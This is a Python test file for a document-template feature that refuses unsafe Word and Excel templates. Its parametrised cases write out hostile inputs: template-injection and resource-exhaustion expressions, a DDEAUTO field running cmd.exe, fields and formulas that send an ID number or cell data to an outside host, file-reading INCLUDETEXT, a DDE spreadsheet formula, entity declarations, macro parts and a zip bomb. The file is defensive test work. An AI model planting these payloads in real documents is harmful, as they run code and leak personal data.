"""A superior's template names fields and does nothing else: what does more is refused in words, at once."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from app.errors import Refused
from app.exchange.filling import places_in
from app.exchange.template_files import filled, names_in
from tests.app.exchange.test_office import xlsx


def docx(*lines: str, footer: str = "", change=None) -> bytes:
    """A document of these lines; `change` may alter it before it is saved."""
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    if footer:
        document.sections[0].footer.paragraphs[0].text = footer
    if change:
        change(document)
    buffer = BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def with_part(data: bytes, name: str, content: str) -> bytes:
    """A package with one more part, or another one in its place."""
    buffer = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(buffer, "w") as new:
        for item in old.infolist():
            if item.filename != name:
                new.writestr(item, old.read(item))
        new.writestr(name, content)
    return buffer.getvalue()


def field(*parts: str):
    """Adds a field of Word whose instruction comes in these pieces."""

    def change(document) -> None:
        paragraph = document.add_paragraph()
        for kind, text in (("begin", ""), *(("", part) for part in parts), ("separate", ""), ("end", "")):
            run = paragraph.add_run()
            made = OxmlElement("w:fldChar" if kind else "w:instrText")
            if kind:
                made.set(qn("w:fldCharType"), kind)
            else:
                made.text = text
            run._r.append(made)

    return change


def simple_field(instruction: str):
    def change(document) -> None:
        made = OxmlElement("w:fldSimple")
        made.set(qn("w:instr"), instruction)
        document.add_paragraph()._p.append(made)

    return change


def link(document) -> None:
    document.part.relate_to("http://example.invalid/x", "http://x/hyperlink", is_external=True)


def test_names_are_found_and_filled_wherever_they_stand() -> None:
    data = docx("姓名：{{姓名}}", "{{ 会议名称 }}（{{会议名称}}）", footer="{{支部名称}}")
    assert places_in("表.docx", data) == ["会议名称", "姓名", "支部名称"]
    told = {"会议名称": "<b>&", "姓名": "{{7*7}}", "支部名称": "甲"}
    text = [p.text for p in Document(BytesIO(filled("表.docx", data, told))).paragraphs]
    assert text == ["姓名：{{7*7}}", "<b>&（<b>&）"], "what a record says is never read again"
    assert places_in("表.xlsx", xlsx("{{姓名}}", "{{ 会议名称 }}")) == ["姓名", "会议名称"]


@pytest.mark.parametrize(
    "line",
    [
        "{{ 9**9**9 }}",
        "{{ 姓名 * 1000000000 }}",
        "{{ '甲' * 9 }}",
        "{{ 姓名.__class__ }}",
        "{{ 姓名|center(999999999) }}",
        "{{ range(999999999) }}",
        "{{ 姓名 ~ 姓名 }}",
        "{{ 姓名[0] }}",
        "{{ 3 }}",
        "{{ }}",
        "{% for i in range(9) %}{{ 姓名 }}{% endfor %}",
        "{% if 姓名 %}甲{% endif %}",
        "{%p for a in 姓名 %}",
        "{% set a = 1 %}",
        "{% include '甲' %}",
        "{{ 姓名 if 姓名 else 姓名 }}",
    ],
)
def test_anything_but_a_bare_name_in_braces_is_refused(line: str) -> None:
    for where in (docx(line), docx("甲", footer=line)):
        with pytest.raises(Refused, match="花括号写法不对"):
            names_in("表.docx", where)


@pytest.mark.parametrize(
    "change",
    [
        field('INCLUDEPICTURE "http://example.invalid/{{身份证号}}"'),
        field("INCLUDE", 'PICTURE "http://example.invalid/x.png" \\d'),
        field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        field(" includetext ", '"c:\\\\secret.txt"'),
        field("PAGE } { INCLUDETEXT x"),
        field('DATE \\@ "{{身份证号}}"'),
        simple_field('HYPERLINK "http://example.invalid"'),
        simple_field("LINK Excel.Sheet.8 x"),
        simple_field("MACROBUTTON x"),
        link,
    ],
)
def test_what_carries_data_out_or_runs_something_is_refused(change) -> None:
    with pytest.raises(Refused, match="不能当模板"):
        names_in("表.docx", docx("{{姓名}}", change=change))


def test_numbers_of_pages_and_the_day_are_no_danger() -> None:
    for instruction in (" PAGE ", "NUMPAGES  \\* MERGEFORMAT", ' DATE \\@ "yyyy年M月d日" ', "page"):
        assert names_in("表.docx", docx("{{姓名}}", change=field(instruction))) == ["姓名"]
        assert names_in("表.docx", docx("{{姓名}}", change=simple_field(instruction))) == ["姓名"]


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/vbaProject.bin", "x"),
        ("word/embeddings/oleObject1.bin", "x"),
        ("word/activeX/activeX1.xml", "<a/>"),
        ("word/footer9.xml", '<!DOCTYPE a [<!ENTITY b "甲">]><a>&b;</a>'),
        ("word/_rels/settings.xml.rels", '<r><Relationship TargetMode="EXTERNAL" Target="\\\\\\\\a\\b.dotm"/></r>'),
    ],
)
def test_parts_that_run_or_fetch_are_refused(part: str, content: str) -> None:
    with pytest.raises(Refused, match="不能当模板"):
        names_in("表.docx", with_part(docx("{{姓名}}"), part, content))


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x/"&A1)',
        '=HYPERLINK("http://x/"&A1,"看")',
        "=cmd|'/c calc'!A1",
        "=[1]甲!A1",
        '=IMAGE("http://x")',
    ],
)
def test_formulas_that_reach_outside_are_refused(formula: str) -> None:
    with pytest.raises(Refused, match="公式指向外面"):
        names_in("表.xlsx", xlsx("{{姓名}}", formula))
    assert names_in("表.xlsx", xlsx("{{姓名}}", "=SUM(A1:A9)")) == ["姓名"]


def test_a_template_that_grows_without_end_is_stopped_in_words() -> None:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"0" * (101 * 1024 * 1024))
    with pytest.raises(Refused, match="展开后太大"):
        places_in("表.docx", buffer.getvalue())
    for broken in (b"", b"PK\x03\x04", b"PK\x05\x06" + b"\0" * 18, docx("甲")[:900]):
        with pytest.raises(Refused):
            places_in("表.docx", broken)
